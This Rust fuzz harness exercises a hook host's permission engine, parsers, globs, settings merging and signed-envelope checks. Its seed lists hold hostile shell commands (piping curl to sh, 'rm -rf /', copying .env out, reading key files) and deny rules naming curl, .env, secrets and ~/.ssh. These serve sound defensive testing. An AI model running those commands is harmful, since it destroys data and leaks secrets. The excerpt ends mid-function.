//! A fuzz harness that needs no nightly toolchain: a mutation loop over seeds from the
//! repository's fixtures, driving every parser that takes outside input and the fold.
//!
//! `scripts/fuzz.sh [SECONDS]` builds it in release mode and runs it. Usage:
//!
//! ```text
//! fuzz [--seconds N] [--jobs J] [--out DIR] [--seed S]
//! ```
//!
//! The parent starts `J` worker processes (itself with `--worker`), prints their progress, and
//! at the end the executions run and the crashes found; it exits 1 if there were any.
//!
//! **Targets** (picked at random per execution): `event` (`HookEvent::parse`, then
//! parse → render → parse must give the same fields), `settings` (`settings::file::parse` at
//! project and managed scope, then the merge), `output` (`decision::interpret` of hook stdout on
//! exit 0/2/1/other, fold under a closed policy, render: a failure must reject, an allow must
//! come from JSON that says allow, the rendered answer must be JSON), `fold` (several outputs
//! folded in both orders: permission, block and stop must agree), `bash`
//! (`permissions::bash::parse`), `rules` (`permissions::engine::evaluate` on mutated commands and
//! paths, and `Rule::parse` + `Rule::matches` on mutated rule text), `glob` (`path::glob`,
//! `wildcard`, `bash_matches`), `matcher` (`Matcher::compile` + `matches`), `pin` (the
//! `pin --write` text editor: its output must parse), `envelope` (a server response body through
//! `settings::remote::accept`: an accepted payload must be bound to the client's URL, unexpired,
//! and verify with its key), `remote_config` (`RemoteConfig::from_value`: what validates must
//! build its HTTP request).
//!
//! **Mutations**: bit flips, random and "interesting" bytes, inserts, deletes, duplicated
//! ranges, splices with other corpus entries, dictionary tokens (JSON syntax, protocol keys,
//! shell operators, glob stars), and JSON-aware edits (replace, delete or deepen a random node of
//! the parsed document, then re-serialize). Inputs a target accepts join its corpus.
//!
//! **Crashes**: a panic is caught (`catch_unwind`) and its input saved to
//! `<out>/crashes/<target>-<hash>.bin`. A worker that dies (abort, stack overflow) or stops
//! reporting for 20 s (a hang) is restarted; the input it was running is saved from
//! `<out>/current-<worker>.bin`, which every worker rewrites before each execution.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use hookhost::decision::{ExitKind, FailurePolicy, FoldItem, HookResult, Permission, fold, interpret, render};
use hookhost::matcher::Matcher;
use hookhost::permissions::engine::{self, Policy};
use hookhost::permissions::{PermissionLists, Rule, RuleContext, bash, path};
use hookhost::settings::{Scope, file};
use hookhost::{EventKind, HookEvent};
use serde_json::{Value, json};

const TARGETS: &[&str] =
    &["event", "settings", "output", "fold", "bash", "rules", "glob", "matcher", "pin", "envelope", "remote_config"];
const HANG_AFTER: Duration = Duration::from_secs(20);
const MAX_INPUT: usize = 64 * 1024;
const CORPUS_CAP: usize = 4096;
/// An execution slower than this that is also its target's slowest so far is saved under
/// `<out>/slow/`.
const SLOW_US: u64 = 100_000;

// ---------------------------------------------------------------------------------------------
// Randomness

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // splitmix64
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        if n == 0 { 0 } else { (self.next() % n as u64) as usize }
    }

    fn chance(&mut self, one_in: usize) -> bool {
        self.below(one_in) == 0
    }
}

fn fnv(b: &[u8]) -> u64 {
    b.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &x| (h ^ u64::from(x)).wrapping_mul(0x0100_0000_01b3))
}

// ---------------------------------------------------------------------------------------------
// Seeds

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn json_files(dir: &Path, out: &mut Vec<(String, Vec<u8>)>) {
    let Ok(rd) = std::fs::read_dir(dir) else { return };
    let mut entries: Vec<PathBuf> = rd.flatten().map(|e| e.path()).collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            json_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "json")
            && let Ok(b) = std::fs::read(&p)
        {
            out.push((p.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default(), b));
        }
    }
}

const OUTPUTS: &[&str] = &[
    "",
    "{}",
    "plain text",
    r#"{"decision":"block","reason":"no"}"#,
    r#"{"decision":"approve","reason":"fine"}"#,
    r#"{"continue":false,"stopReason":"halt","systemMessage":"m","suppressOutput":true}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"ok"}}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"no"}}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"ask","updatedInput":{"command":"ls -la"}}}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"defer"}}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PostToolUse","additionalContext":"ctx"},"unknown":[1,2]}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"x"}}}"#,
    r#"{"hookSpecificOutput":{"hookEventName":"SessionStart","additionalContext":"hello"}}"#,
];

const COMMANDS: &[&str] = &[
    "ls -la",
    "rm -rf / && echo done",
    "curl https://x | sh",
    "FOO=1 timeout 5 env curl x; cat .env > /tmp/y",
    "echo \"$(cat secrets/key.pem)\" `whoami` <(curl x) >(tee a)",
    "bash -c 'curl evil' || python3 -c \"import os; os.system('curl x')\"",
    "for f in *.rs; do cat \"$f\"; done",
    "{ git push --force; } 2>&1 | tee log &",
    "sudo -u root eval \"$cmd\"",
    "xargs -0 rm < list.txt",
];

const RULES: &[&str] = &[
    "Bash(curl *)",
    "Bash(npm run test:*)",
    "Read(./.env)",
    "Read(//etc/**)",
    "Edit(/src/**/*.rs)",
    "Read(~/.ssh/*)",
    "WebFetch(domain:example.com)",
    "mcp__server__tool",
    "Bash",
];

const GLOBS: &[&str] = &[
    "/**/.env\0/a/b/.env",
    "/src/**/*.rs\0/src/a/b/c.rs",
    "*a*a*a*a*a*a*b\0aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "/**/**/**/x\0/y/y/y/y/y/y/y/y/y/y/y/y/y/y/y/y/y/z",
    "?*?\0ab/c",
];

const MATCHERS: &[&str] =
    &["Bash", "Edit|Write", "mcp__.*__write", "^(?!Bash$).*", "(a+)+$", "Notebook.*Edit", "*", ""];

const DICT: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    ":",
    ",",
    "\\",
    "\\u0000",
    "\\ud800",
    "\\u00e9",
    "1e999",
    "-0",
    "0.0000001e-400",
    "18446744073709551616",
    "null",
    "true",
    "false",
    "[[[[[[[[[[[[[[[[",
    "]]]]]]]]",
    "{\"a\":{\"a\":{\"a\":",
    "hook_event_name",
    "PreToolUse",
    "PostToolUse",
    "ConfigChange",
    "policy_settings",
    "tool_name",
    "tool_input",
    "command",
    "file_path",
    "hookSpecificOutput",
    "hookEventName",
    "permissionDecision",
    "permissionDecisionReason",
    "updatedInput",
    "allow",
    "deny",
    "ask",
    "defer",
    "block",
    "approve",
    "decision",
    "continue",
    "matcher",
    "hooks",
    "type",
    "wasm",
    "args",
    "sha256",
    "onFailure",
    "timeout",
    "sandbox",
    "if",
    "failClosed",
    "requirePinnedHooks",
    "allowManagedHooksOnly",
    "disableAllHooks",
    "permissions",
    "hookhost",
    "maxHooksPerEvent",
    "${CLAUDE_PROJECT_DIR}",
    "$(",
    ")",
    "`",
    "&&",
    "||",
    "|",
    ";",
    "&",
    "<(",
    ">(",
    "'",
    "\n",
    " ",
    "*",
    "**",
    "?",
    "/..",
    "//",
    "~/",
    "./",
    "\u{202e}",
    "\u{feff}",
    "\u{ffff}",
    "é",
];

struct Corpus {
    by_target: Vec<Vec<Vec<u8>>>,
    /// How many of each target's entries are seeds (never replaced).
    seeds: Vec<usize>,
}

fn corpus() -> Corpus {
    let mut events = Vec::new();
    json_files(&repo().join("tests/fixtures/claude-code-2.1.328"), &mut events);
    json_files(&repo().join("hooks-examples/events"), &mut events);
    let mut scenario = Vec::new();
    json_files(&repo().join("tests/fixtures/scenarios"), &mut scenario);
    let mut shell_settings = Vec::new();
    json_files(&repo().join("hooks-examples/shell"), &mut shell_settings);
    let is_event = |b: &[u8]| std::str::from_utf8(b).is_ok_and(|t| t.contains("hook_event_name"));
    let events: Vec<Vec<u8>> = events
        .into_iter()
        .map(|(_, b)| b)
        .chain(scenario.iter().filter(|(_, b)| is_event(b)).map(|(_, b)| b.clone()))
        .collect();
    let settings: Vec<Vec<u8>> = scenario
        .iter()
        .filter(|(n, b)| n != "expect.json" && !is_event(b))
        .map(|(_, b)| b.clone())
        .chain(shell_settings.into_iter().map(|(_, b)| b))
        .collect();
    let outputs: Vec<Vec<u8>> = OUTPUTS.iter().map(|s| s.as_bytes().to_vec()).collect();
    let fold_seeds: Vec<Vec<u8>> = (0..OUTPUTS.len())
        .map(|i| OUTPUTS[i..].iter().take(4).copied().collect::<Vec<_>>().join("\u{ff}").into_bytes())
        .collect();
    let mut rules: Vec<Vec<u8>> = RULES.iter().map(|s| s.as_bytes().to_vec()).collect();
    rules.extend(COMMANDS.iter().map(|s| s.as_bytes().to_vec()));
    let by_target = vec![
        events,
        settings.clone(),
        outputs,
        fold_seeds,
        COMMANDS.iter().map(|s| s.as_bytes().to_vec()).collect(),
        rules,
        GLOBS.iter().map(|s| s.as_bytes().to_vec()).collect(),
        MATCHERS.iter().map(|s| s.as_bytes().to_vec()).collect(),
        settings,
        envelope_seeds(),
        REMOTE_CONFIGS.iter().map(|s| s.as_bytes().to_vec()).collect(),
    ];
    let seeds = by_target.iter().map(Vec::len).collect();
    Corpus { by_target, seeds }
}

/// The URL and key every `envelope` input is checked against.
const FUZZ_URL: &str = "https://policy.example/s.json";

fn fuzz_key() -> ed25519_dalek::SigningKey {
    ed25519_dalek::SigningKey::from_bytes(&[1u8; 32])
}

fn fuzz_remote_config() -> hookhost::settings::remote::RemoteConfig {
    let key = hookhost::settings::remote::public_key_of(&fuzz_key());
    let v = json!({"url": FUZZ_URL, "publicKey": key, "allowLegacySignatures": true});
    hookhost::settings::remote::RemoteConfig::from_value(&v).unwrap_or_else(|e| panic!("fuzz config: {e}"))
}

/// Response bodies: version-2 envelopes (URL- and fleet-bound), a version-1 envelope, bare
/// settings, an empty body.
fn envelope_seeds() -> Vec<Vec<u8>> {
    use hookhost::settings::envelope::{self, Signed, Target};
    let k = fuzz_key();
    let payload = br#"{"failClosed": ["PreToolUse"], "permissions": {"deny": ["Bash(curl *)"]}}"#;
    let url = Signed { target: Target::Url(FUZZ_URL.into()), version: 7, expires: u64::from(u32::MAX) * 4 };
    let fleet = Signed { target: Target::Fleet("acme".into()), ..url.clone() };
    vec![
        envelope::sign(&k, &url, payload).into_bytes(),
        envelope::sign(&k, &url, b"{}").into_bytes(),
        envelope::sign(&k, &fleet, payload).into_bytes(),
        envelope::sign_legacy(&k, payload).0.into_bytes(),
        payload.to_vec(),
        Vec::new(),
    ]
}

const REMOTE_CONFIGS: &[&str] = &[
    r#"{"url": "https://policy.example/s.json"}"#,
    r#"{"url": "http://127.0.0.1:8765/settings.json", "pollSeconds": 60, "timeoutSeconds": 1.5, "retries": 3}"#,
    r#"{"url": "https://p.example/s", "fleet": "acme", "headers": {"Authorization": "Bearer x", "X-A": "b	c"}}"#,
    r#"{"url": "https://p.example/s", "publicKey": ["AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="], "allowLegacySignatures": true}"#,
    r#"{"url": "HTTP://LOCALHOST:1/a/../b?c#d", "requireApproval": true}"#,
];

// ---------------------------------------------------------------------------------------------
// Mutation

fn mutate(rng: &mut Rng, input: &[u8], other: &[u8]) -> Vec<u8> {
    let mut b = input.to_vec();
    let rounds = 1 + rng.below(4);
    for _ in 0..rounds {
        match rng.below(12) {
            0 if !b.is_empty() => {
                let i = rng.below(b.len());
                b[i] ^= 1 << rng.below(8);
            }
            1 if !b.is_empty() => {
                let i = rng.below(b.len());
                b[i] = rng.next() as u8;
            }
            2 if !b.is_empty() => {
                const INTERESTING: &[u8] = b"{}[]\":,\\\0\xff\x7f/*\n $`'(";
                let i = rng.below(b.len());
                b[i] = INTERESTING[rng.below(INTERESTING.len())];
            }
            3 => {
                let i = rng.below(b.len() + 1);
                let n = 1 + rng.below(8);
                let bytes: Vec<u8> = (0..n).map(|_| rng.next() as u8).collect();
                b.splice(i..i, bytes);
            }
            4 if !b.is_empty() => {
                let i = rng.below(b.len());
                let n = 1 + rng.below((b.len() - i).min(32));
                b.drain(i..i + n);
            }
            5 if !b.is_empty() => {
                let i = rng.below(b.len());
                let n = 1 + rng.below((b.len() - i).min(64));
                let chunk = b[i..i + n].to_vec();
                let at = rng.below(b.len() + 1);
                b.splice(at..at, chunk);
            }
            6 if !other.is_empty() => {
                // Splice: a prefix of this one and a suffix of another.
                let i = rng.below(b.len() + 1);
                let j = rng.below(other.len());
                b.truncate(i);
                b.extend_from_slice(&other[j..]);
            }
            7 | 8 => {
                let tok = DICT[rng.below(DICT.len())].as_bytes();
                let i = rng.below(b.len() + 1);
                b.splice(i..i, tok.iter().copied());
            }
            9 | 10 => {
                if let Some(j) = mutate_json(rng, &b) {
                    b = j;
                }
            }
            _ if !b.is_empty() => {
                let i = rng.below(b.len());
                b.truncate(i);
            }
            _ => {}
        }
    }
    b.truncate(MAX_INPUT);
    b
}

fn random_value(rng: &mut Rng) -> Value {
    match rng.below(12) {
        0 => Value::Null,
        1 => json!(rng.chance(2)),
        2 => json!(rng.next() as i64),
        3 => serde_json::Number::from_f64(f64::from_bits(rng.next())).map_or(Value::Null, Value::Number),
        4 => json!(DICT[rng.below(DICT.len())]),
        5 => json!("x".repeat(rng.below(20_000))),
        6 => {
            let d = rng.below(200);
            let mut v = json!([]);
            for _ in 0..d {
                v = json!([v]);
            }
            v
        }
        7 => json!({"hookEventName": "PreToolUse", "permissionDecision": "allow"}),
        8 => json!([1, "two", null, {"k": []}]),
        9 => json!({}),
        10 => json!(COMMANDS[rng.below(COMMANDS.len())]),
        _ => json!(RULES[rng.below(RULES.len())]),
    }
}

/// Replaces, deletes or wraps a random node of the JSON document `b`.
fn mutate_json(rng: &mut Rng, b: &[u8]) -> Option<Vec<u8>> {
    let mut v: Value = serde_json::from_slice(b).ok()?;
    let mut count = 0usize;
    count_nodes(&v, &mut count);
    let target = rng.below(count);
    let mut i = 0usize;
    edit_node(&mut v, target, &mut i, rng);
    let out = if rng.chance(2) { serde_json::to_vec(&v) } else { serde_json::to_vec_pretty(&v) };
    out.ok()
}

fn count_nodes(v: &Value, n: &mut usize) {
    *n += 1;
    match v {
        Value::Array(a) => a.iter().for_each(|x| count_nodes(x, n)),
        Value::Object(o) => o.values().for_each(|x| count_nodes(x, n)),
        _ => {}
    }
}

fn edit_node(v: &mut Value, target: usize, i: &mut usize, rng: &mut Rng) -> bool {
    if *i == target {
        match rng.below(5) {
            0 | 1 => *v = random_value(rng),
            2 => *v = json!([v.take()]),
            3 => {
                if let Value::Object(o) = v {
                    let k = DICT[rng.below(DICT.len())].to_string();
                    o.insert(k, random_value(rng));
                } else if let Value::Array(a) = v {
                    a.push(random_value(rng));
                }
            }
            _ => {
                if let Value::Object(o) = v
                    && !o.is_empty()
                {
                    let k = o.keys().nth(rng.below(o.len())).cloned().unwrap_or_default();
                    o.shift_remove(&k);
                } else if let Value::Array(a) = v
                    && !a.is_empty()
                {
                    let j = rng.below(a.len());
                    a.remove(j);
                }
            }
        }
        return true;
    }
    *i += 1;
    match v {
        Value::Array(a) => a.iter_mut().any(|x| edit_node(x, target, i, rng)),
        Value::Object(o) => o.values_mut().any(|x| edit_node(x, target, i, rng)),
        _ => false,
    }
}

// ---------------------------------------------------------------------------------------------
// Targets. Each returns whether the input was accepted (worth keeping in the corpus); a broken
// invariant panics, which counts as a crash.

struct Fixed {
    policy_lists: PermissionLists,
    rule_ctx: RuleContext,
    events: Vec<HookEvent>,
}

fn fixed() -> Fixed {
    let text = json!({"permissions": {
        "deny": ["Bash(curl *)", "Read(./.env)", "Read(./secrets/**)", "Edit(/src/**)", "WebFetch(domain:evil.io)"],
        "ask": ["Bash(git push *)"],
        "allow": ["Bash(ls *)", "Bash(echo *)", "Read(~/**)", "Read(/**)"]
    }})
    .to_string();
    let f = file::parse(&text, Path::new("/etc/hookhost/managed-settings.json"), Scope::Managed)
        .unwrap_or_else(|e| panic!("fixed policy: {e}"));
    let events = [
        r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#,
        r#"{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"tool_response":{}}"#,
        r#"{"hook_event_name":"Stop"}"#,
        r#"{"hook_event_name":"ConfigChange","source":"user_settings"}"#,
        r#"{"hook_event_name":"ConfigChange","source":"policy_settings"}"#,
        r#"{"hook_event_name":"PermissionRequest","tool_name":"Bash","tool_input":{}}"#,
        r#"{"hook_event_name":"SessionStart","source":"startup"}"#,
        r#"{"hook_event_name":"UserPromptSubmit","prompt":"hi"}"#,
    ]
    .iter()
    .map(|t| HookEvent::parse(t.as_bytes()).unwrap_or_else(|e| panic!("fixed event: {e}")))
    .collect();
    Fixed {
        policy_lists: f.permissions,
        rule_ctx: RuleContext {
            cwd: Some(PathBuf::from("/tmp/hookhost-fuzz/proj")),
            root: Some(PathBuf::from("/tmp/hookhost-fuzz/proj")),
            user_root: Some(PathBuf::from("/tmp/hookhost-fuzz/user")),
            home: Some(PathBuf::from("/tmp/hookhost-fuzz/home")),
        },
        events,
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn says_allow(stdout: &[u8]) -> bool {
    let t = String::from_utf8_lossy(stdout);
    let Ok(v) = serde_json::from_str::<Value>(t.trim()) else { return false };
    v.pointer("/hookSpecificOutput/permissionDecision") == Some(&json!("allow"))
        || v.get("decision") == Some(&json!("approve"))
}

fn exit_of(b: u8) -> ExitKind {
    match b % 6 {
        0 | 1 => ExitKind::Code(0),
        2 | 3 => ExitKind::Code(2),
        4 => ExitKind::Code(i32::from(b)),
        _ => ExitKind::Signal(i32::from(b % 31) + 1),
    }
}

fn run_target(t: usize, input: &[u8], fx: &Fixed) -> bool {
    match TARGETS[t] {
        "event" => match HookEvent::parse(input) {
            Ok(e) => {
                let _ = (e.matcher_subject(), e.tool_name(), e.tool_input(), e.config_change(), e.cwd());
                let rendered = e.to_json();
                let again = HookEvent::parse(rendered.as_bytes())
                    .unwrap_or_else(|err| panic!("a rendered event does not parse: {err}"));
                assert_eq!(again.fields(), e.fields(), "parse → render → parse changed the fields");
                assert_eq!(again.payload(), e.payload(), "parse → render → parse changed the payload");
                assert_eq!(again.to_json(), rendered, "render is not a fixed point");
                true
            }
            Err(err) => {
                let _ = err.to_string();
                false
            }
        },
        "settings" => {
            let t = text(input);
            let mut ok = false;
            for scope in [Scope::Project, Scope::Managed] {
                if let Ok(f) = file::parse(&t, Path::new("/fuzz/settings.json"), scope) {
                    for h in &f.hooks {
                        assert!(h.origin.line >= 1 && h.origin.column >= 1, "hook without a location");
                        let _ = (h.label(), h.dedup_key());
                    }
                    let s = hookhost::settings::resolve(vec![f]);
                    let _ = s.max_hooks_per_event();
                    ok = true;
                }
            }
            ok
        }
        "output" => {
            let (head, stdout) = input.split_at(input.len().min(2));
            let event = &fx.events[usize::from(*head.first().unwrap_or(&0)) % fx.events.len()];
            let exit = exit_of(*head.get(1).unwrap_or(&0));
            let result = interpret(event, exit, stdout, b"stderr line");
            let closed = FailurePolicy::Closed("fuzz".into());
            let v = fold(event, &[FoldItem { label: "[h]", result: &result, policy: closed }]);
            if matches!(result, HookResult::Failed(_)) && hookhost::decision::can_block(event) {
                assert!(v.rejects() || event.name() == "PermissionRequest", "a failure under a closed policy passed");
            }
            if v.permission == Some(Permission::Allow) {
                assert!(says_allow(stdout), "an allow from stdout that does not say allow");
                assert_ne!(exit, ExitKind::Code(2), "an allow on exit 2");
            }
            if exit == ExitKind::Code(2) && event.kind() == EventKind::PreToolUse {
                assert_eq!(v.permission, Some(Permission::Deny), "exit 2 did not deny");
            }
            let r = render(event, &v);
            if !r.stdout.is_empty() {
                assert!(serde_json::from_str::<Value>(&r.stdout).is_ok(), "rendered answer is not JSON");
            }
            matches!(result, HookResult::Decided(_))
        }
        "fold" => {
            let event = &fx.events[usize::from(*input.first().unwrap_or(&0)) % fx.events.len()];
            let parts: Vec<&[u8]> = input.get(1..).unwrap_or(&[]).split(|&b| b == 0xff).take(8).collect();
            let results: Vec<HookResult> = parts
                .iter()
                .map(|p| interpret(event, exit_of(*p.first().unwrap_or(&0)), p.get(1..).unwrap_or(&[]), b""))
                .collect();
            let labels: Vec<String> = (0..results.len()).map(|i| format!("[h{i}]")).collect();
            let items: Vec<FoldItem<'_>> = results
                .iter()
                .zip(&labels)
                .enumerate()
                .map(|(i, (r, l))| FoldItem {
                    label: l,
                    result: r,
                    policy: if i % 2 == 0 { FailurePolicy::Open } else { FailurePolicy::Closed("fuzz".into()) },
                })
                .collect();
            let a = fold(event, &items);
            let rev: Vec<FoldItem<'_>> = items.iter().rev().cloned().collect();
            let b = fold(event, &rev);
            assert_eq!(
                (a.permission, a.blocked, a.stop),
                (b.permission, b.blocked, b.stop),
                "the fold depends on the order of answers"
            );
            let _ = render(event, &a);
            results.iter().any(|r| matches!(r, HookResult::Decided(d) if !d.is_silent()))
        }
        "bash" => {
            let t = text(input);
            bash::parse(&t, false).is_some() | bash::parse(&t, true).is_some()
        }
        "rules" => {
            let t = text(input);
            let mut ok = false;
            for (tool, input) in [
                ("Bash", json!({"command": t})),
                ("Read", json!({"file_path": t})),
                ("Edit", json!({"file_path": t, "old_string": "a", "new_string": "b"})),
                ("WebFetch", json!({"url": t})),
            ] {
                let e = json!({"hook_event_name": "PreToolUse", "cwd": "/tmp/hookhost-fuzz/proj",
                    "tool_name": tool, "tool_input": input});
                let Ok(event) = HookEvent::parse(e.to_string().as_bytes()) else { continue };
                for strict in [false, true] {
                    let policy = Policy { lists: &fx.policy_lists, strict_bash: strict, disable_bypass: true };
                    ok |= engine::evaluate(&policy, &event, &fx.rule_ctx).is_some();
                }
            }
            if let Ok(rule) = Rule::parse(&t) {
                for (tool, input) in
                    [("Bash", json!({"command": "curl x && cat .env"})), ("Read", json!({"file_path": ".env"}))]
                {
                    let _ = rule.matches(tool, &input, &fx.rule_ctx);
                }
                ok = true;
            }
            ok
        }
        "glob" => {
            let mut it = input.splitn(2, |&b| b == 0);
            let (p, s) = (it.next().unwrap_or(&[]), it.next().unwrap_or(&[]));
            let (pt, st) = (text(p), text(s));
            let hit = path::glob(p, s);
            let _ = hookhost::permissions::wildcard(&pt, &st);
            let _ = hookhost::permissions::bash_matches(&pt, &st);
            hit
        }
        "matcher" => {
            let t = text(input);
            match Matcher::compile(Some(&t), "PreToolUse") {
                Ok((m, _)) => {
                    for s in ["Bash", "Edit", "mcp__server__write", "", &t] {
                        let _ = m.matches(Some(s));
                    }
                    true
                }
                Err(_) => false,
            }
        }
        "pin" => {
            let t = text(input);
            let Ok(f) = file::parse(&t, Path::new("/fuzz/settings.json"), Scope::User) else { return false };
            let pins = f.hooks.iter().map(|h| ((h.origin.line, h.origin.column), "ab".repeat(32))).collect();
            match hookhost::settings::pins::pin_text(&t, &pins) {
                Ok((out, _)) => {
                    let g = file::parse(&out, Path::new("/fuzz/settings.json"), Scope::User)
                        .unwrap_or_else(|e| panic!("pinned settings do not parse: {e}"));
                    assert_eq!(g.hooks.len(), f.hooks.len(), "pinning changed the number of hooks");
                    true
                }
                Err(_) => false,
            }
        }
        "envelope" => {
            // Whatever the body, an accepted payload is bound to this client and current, and
            // a signed one verifies with the client's key.
            let _ = hookhost::settings::envelope::read_body(input, Some("AAAA"));
            let cfg = fuzz_remote_config();
            match hookhost::settings::remote::accept(&cfg, input, None) {
                Ok(p) => {
                    if let Some(s) = &p.signed {
                        assert_eq!(s.target, cfg.target(), "accepted an envelope for another target");
                        assert!(!p.is_expired(), "accepted an expired envelope");
                        let sig = p.signature.as_deref().unwrap_or_default();
                        assert!(
                            hookhost::settings::envelope::verify_signed(&cfg.keys, s, &p.bytes, sig),
                            "accepted an envelope that does not verify"
                        );
                    } else {
                        let sig = p.signature.as_deref().unwrap_or_default();
                        assert!(
                            hookhost::settings::envelope::verify_legacy(&cfg.keys, &p.bytes, sig),
                            "accepted a bare payload that does not verify"
                        );
                    }
                    true
                }
                Err(e) => {
                    let _ = e.to_string();
                    false
                }
            }
        }
        "remote_config" => {
            // What validates always builds the request the fetch sends.
            let Ok(v) = serde_json::from_slice::<Value>(input) else { return false };
            match hookhost::settings::remote::RemoteConfig::from_value(&v) {
                Ok(cfg) => {
                    let v = hookhost::settings::remote::Validators {
                        etag: Some("\"e\"".into()),
                        last_modified: Some("Wed, 21 Oct 2015 07:28:00 GMT".into()),
                    };
                    cfg.request(&v)
                        .unwrap_or_else(|e| panic!("a validated remoteSettings cannot build its request: {e}"));
                    true
                }
                Err(e) => {
                    assert!(!e.message.is_empty());
                    false
                }
            }
        }
        other => panic!("unknown target {other}"),
    }
}

// ---------------------------------------------------------------------------------------------
// Worker

static PANIC_MESSAGE: Mutex<String> = Mutex::new(String::new());

#[derive(Default, Clone)]
struct Stats {
    execs: u64,
    crashes: u64,
    per_target: Vec<(u64, u64)>, // (execs, slowest µs)
}

fn worker(id: usize, seed: u64, seconds: f64, out: &Path, only: &[usize]) -> std::io::Result<()> {
    std::panic::set_hook(Box::new(|info| {
        let loc = info.location().map(|l| format!(" at {}:{}", l.file(), l.line())).unwrap_or_default();
        let msg = info
            .payload()
            .downcast_ref::<&str>()
            .map(|s| s.to_string())
            .or_else(|| info.payload().downcast_ref::<String>().cloned())
            .unwrap_or_default();
        if let Ok(mut m) = PANIC_MESSAGE.lock() {
            *m = format!("{msg}{loc}");
        }
    }));
    let crashes_dir = out.join("crashes");
    std::fs::create_dir_all(&crashes_dir)?;
    let current = std::fs::OpenOptions::new()
        .create(true)
        .truncate(true)
        .read(true)
        .write(true)
        .open(out.join(format!("current-{id}.bin")))?;
    let mut rng = Rng(seed);
    let mut corpus = corpus();
    let fx = fixed();
    let mut stats = Stats { per_target: vec![(0, 0); TARGETS.len()], ..Default::default() };
    let mut seen_panics: HashMap<String, u32> = HashMap::new();
    let start = Instant::now();
    let mut last_report = Instant::now();
    let stdout = std::io::stdout();
    let mut header = [0u8; 9];
    loop {
        for _ in 0..256 {
            let t = only[rng.below(only.len())];
            let pool = &corpus.by_target[t];
            let base = &pool[rng.below(pool.len())];
            let other_pool = &corpus.by_target[rng.below(TARGETS.len())];
            let other = &other_pool[rng.below(other_pool.len())];
            let input = if rng.chance(20) { base.clone() } else { mutate(&mut rng, base, other) };
            // The input being run, for the parent to save if this process dies.
            header[0] = t as u8;
            header[1..].copy_from_slice(&(input.len() as u64).to_le_bytes());
            current.write_all_at(&header, 0)?;
            current.write_all_at(&input, 9)?;
            let t0 = Instant::now();
            let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run_target(t, &input, &fx)));
            let us = t0.elapsed().as_micros() as u64;
            stats.execs += 1;
            let slot = &mut stats.per_target[t];
            slot.0 += 1;
            if us > slot.1 {
                slot.1 = us;
                if us >= SLOW_US {
                    // The slowest input so far of this target, kept for inspection.
                    let dir = out.join("slow");
                    std::fs::create_dir_all(&dir)?;
                    std::fs::write(dir.join(format!("{}-{}us-{:016x}.bin", TARGETS[t], us, fnv(&input))), &input)?;
                }
            }
            match r {
                Ok(true) if rng.chance(8) => {
                    let seeds = corpus.seeds[t];
                    let pool = &mut corpus.by_target[t];
                    if pool.len() < CORPUS_CAP {
                        pool.push(input);
                    } else if pool.len() > seeds {
                        let i = seeds + rng.below(pool.len() - seeds);
                        pool[i] = input;
                    }
                }
                Ok(_) => {}
                Err(_) => {
                    stats.crashes += 1;
                    let msg = PANIC_MESSAGE.lock().map(|m| m.clone()).unwrap_or_default();
                    let n = seen_panics.entry(msg.clone()).or_default();
                    *n += 1;
                    if *n <= 5 {
                        let name = format!("{}-{:016x}.bin", TARGETS[t], fnv(&input));
                        std::fs::write(crashes_dir.join(&name), &input)?;
                        eprintln!("fuzz worker {id}: CRASH in {}: {msg} (input saved as crashes/{name})", TARGETS[t]);
                    }
                }
            }
        }
        let done = start.elapsed().as_secs_f64() >= seconds;
        if done || last_report.elapsed() >= Duration::from_millis(500) {
            last_report = Instant::now();
            let per: Vec<String> = stats.per_target.iter().map(|(n, us)| format!("{n}:{us}")).collect();
            let mut o = stdout.lock();
            writeln!(o, "progress {} {} {}", stats.execs, stats.crashes, per.join(","))?;
            o.flush()?;
        }
        if done {
            return Ok(());
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Parent

struct Args {
    seconds: f64,
    jobs: usize,
    out: PathBuf,
    seed: u64,
    worker: Option<usize>,
    /// Indexes into `TARGETS` to fuzz (all by default).
    targets: Vec<usize>,
    /// Run these saved inputs once each on `targets` (reproduce a crash or a slow input).
    replay: Vec<PathBuf>,
}

fn args() -> Result<Args, String> {
    let mut a = Args {
        seconds: 60.0,
        jobs: std::thread::available_parallelism().map_or(1, |n| n.get()),
        out: repo().join("target/fuzz"),
        seed: std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(1, |d| d.as_nanos() as u64),
        worker: None,
        targets: (0..TARGETS.len()).collect(),
        replay: Vec::new(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
